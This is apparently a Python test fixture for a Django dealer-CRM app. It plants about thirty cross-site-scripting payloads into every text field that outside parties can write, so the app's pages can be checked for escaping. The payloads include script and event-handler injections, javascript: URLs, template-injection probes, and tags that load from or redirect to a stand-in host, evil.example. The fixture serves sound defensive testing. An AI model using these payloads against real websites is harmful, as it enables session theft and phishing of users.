"""Turns a dealer into one whose every text from outside is an attack on the page that shows it (R35)."""

from itertools import cycle
from typing import Any

from django.db.models import CharField, Model, TextField

from relance.dealers.audit import Deed, Who, note
from relance.dealers.models import Dealer, Invitation, Staff, User
from relance.facts.models import (
    Appointment,
    ConsentEntry,
    Customer,
    DeferredWork,
    RepairOrder,
    Sale,
    Touch,
    Vehicle,
)
from relance.intake.models import ImportRun
from relance.lib import clock
from relance.outbox.models import HoldBack, Message, Move, Task
from relance.plan.models import Automation, AutomationVersion, CustomerGroup, PersonalReminder, Run

MARK = "xss-was-here"
DO = f"document.body.dataset.hit='{MARK}',alert(1)"
PAYLOADS = (
    f"<script>{DO}</script>",
    f"<img src=x onerror={DO!r}>",
    f'"><img src=x onerror="{DO}">',
    f"'><svg onload={DO!r}>",
    f'" autofocus onfocus="{DO}" x="',
    f"' onmouseover='{DO}' '",
    f"</title><script>{DO}</script>",
    f"</textarea><script>{DO}</script>",
    f'</option></select><img src=x onerror="{DO}">',
    f"--><script>{DO}</script>",
    f"]]><script>{DO}</script>",
    f"javascript:{DO}",
    f'<a href="javascript:{DO}">click</a>',
    f"[click](javascript:{DO})",
    f'![x](x" onerror="{DO})',
    f'**bold** <b onclick="{DO}">x</b>',
    f'<iframe srcdoc="<script>parent.{DO}</script>"></iframe>',
    "<iframe src=https://evil.example/></iframe>",
    "<img src=https://evil.example/beacon>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>go</button></form>",
    "<style>*{display:none}</style>",
    '<div style="position:fixed;inset:0;background:url(https://evil.example/)">x</div>',
    f'<div hx-get=/ hx-trigger=load hx-on::load="{DO}">x</div>',
    "{{ 7|add:7 }}{% debug %}${7*7}#{7*7}",
    f"<math><mtext><script>{DO}</script></mtext></math>",
    f'<details open ontoggle="{DO}">x</details>',
    f"\u202e<scr\u0000ipt>{DO}</script>\u2028".replace("\u0000", ""),
)
# What a feed, a customer, a provider or another member of the staff may write. Never keys, states and words of ours.
OUTSIDE: dict[type[Model], tuple[str, ...]] = {
    Customer: (
        "first_name", "last_name", "company", "mailing_name", "name", "address", "city", "region", "country", "email",
        "phone", "salesperson",
    ),
    Vehicle: ("vin", "plate", "make", "model", "sub_model", "engine"),
    Appointment: ("advisor", "raw_status", "requested_work"),
    RepairOrder: ("reference", "advisor", "raw_status"),
    DeferredWork: ("description",),
    Sale: ("salesperson", "make", "model"),
    Touch: ("body", "text"),
    ConsentEntry: ("source", "proof"),
    Staff: ("name", "email", "mobile"),
    Message: ("subject_line", "body", "address", "detail", "provider_ref"),
    Move: ("cause",),
    Task: ("said", "note", "closed_by"),
    HoldBack: ("by",),
    Automation: ("name", "paused"),
    AutomationVersion: ("by",),
    CustomerGroup: ("name",),
    PersonalReminder: ("author", "text"),
    Run: ("cause",),
    ImportRun: ("feed", "error"),
    Invitation: ("invited_by",),
}  # fmt: skip


def plant(dealer: Dealer) -> int:
    """Write attacks into every text of the dealer that comes from outside; how many were planted."""
    attacks, planted = cycle(PAYLOADS), 0
    for model, names in OUTSIDE.items():
        fields = {field.name: field for field in model._meta.concrete_fields}
        for row in model.objects.of(dealer).order_by("pk"):  # type: ignore[attr-defined]
            for name in (name for name in names if name in fields):
                setattr(row, name, _short(fields[name], next(attacks)))
                planted += 1
            row.save()
    Customer.objects.of(dealer).update(meta={PAYLOADS[0]: PAYLOADS[1], "colour": PAYLOADS[2]})
    Message.objects.of(dealer).update(facts={PAYLOADS[3]: PAYLOADS[4]})
    ImportRun.objects.of(dealer).update(notes=[PAYLOADS[5]])
    User.objects.filter(memberships__dealer=dealer).update(name=PAYLOADS[6][:200])
    dealer.name = PAYLOADS[1][:200]
    dealer.settings = {**dealer.settings, "owner": PAYLOADS[2], "accessories": {PAYLOADS[28][:40]: PAYLOADS[3]}}
    dealer.save()
    for attack in PAYLOADS:
        note(dealer, Deed("settings", attack, {attack: attack}, {attack: attack}), who=Who(attack), at=clock.now())
    return planted + len(PAYLOADS)


def _short(field: Any, text: str) -> str:
    return text[: field.max_length] if isinstance(field, CharField | TextField) and field.max_length else text
